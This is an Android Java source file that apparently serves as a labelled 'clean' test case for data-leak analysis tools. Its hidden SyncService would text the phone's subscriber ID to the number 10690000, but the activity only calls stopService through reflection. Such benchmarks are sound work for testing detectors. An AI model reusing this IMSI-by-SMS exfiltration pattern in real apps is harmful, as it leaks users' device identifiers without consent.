// about       stopService is called by its name: the service, which would send the extra, is never started.
// clean       -
// service     cn.example.flow.MainActivity$SyncService
package cn.example.flow;

import android.app.Activity;
import android.app.Service;
import android.content.Context;
import android.content.Intent;
import android.os.Bundle;
import android.os.IBinder;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.Method;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Intent intent = new Intent(this, SyncService.class);
    intent.putExtra("subscriber", phone.getSubscriberId());
    try {
      // Starts or stops the service.
      Method call = Context.class.getMethod("stopService", Intent.class);
      call.invoke(this, intent);
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  public static class SyncService extends Service {
    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
      String subscriber = intent.getStringExtra("subscriber");
      SmsManager.getDefault().sendTextMessage("10690000", null, subscriber, null, null);
      return START_NOT_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
      return null;
    }
  }
}
